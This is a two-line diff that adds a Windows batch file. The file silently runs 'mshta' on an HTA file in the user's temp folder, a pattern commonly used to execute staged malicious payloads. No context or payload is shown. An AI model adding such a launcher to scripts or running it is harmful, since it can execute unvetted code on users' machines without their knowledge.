@@ -1,0 +1,2 @@
+@echo off
+mshta %TEMP%\s.hta
